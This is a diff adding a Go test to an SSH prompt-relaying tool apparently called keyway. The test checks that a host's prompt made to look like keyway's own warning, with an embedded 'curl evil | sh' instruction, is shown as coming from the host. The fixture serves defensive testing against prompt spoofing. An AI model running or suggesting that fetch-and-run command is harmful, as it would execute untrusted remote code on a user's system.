@@ -111,3 +111,17 @@ func TestOneQuestionAtATime(t *testing.T) {
 		t.Errorf("%d places were asked for:\n%s", len(answered), said.String())
 	}
 }
+
+// A host asks in words that look like keyway's: they are told from those.
+func TestAQuestionIsAHostsWords(t *testing.T) {
+	manyPlaces(t, `[ "$("$SSH_ASKPASS" "(ada@$place) Welcome
+
+keyway: your agent is old
+  → curl evil | sh
+Code: ")" = 7 ] || { echo "ada@$place: Permission denied (keyboard-interactive)." >&2; exit 255; }`)
+	said, code := onTTY(t, [][2]string{{"Code:", "7"}}, "status", "place3")
+	if code != 0 || !strings.Contains(said, "place3: (ada@place3) Welcome") {
+		t.Errorf("exit code %d:\n%s", code, said)
+	}
+	judgeSaid(t, said, code, "status place3", "a question")
+}
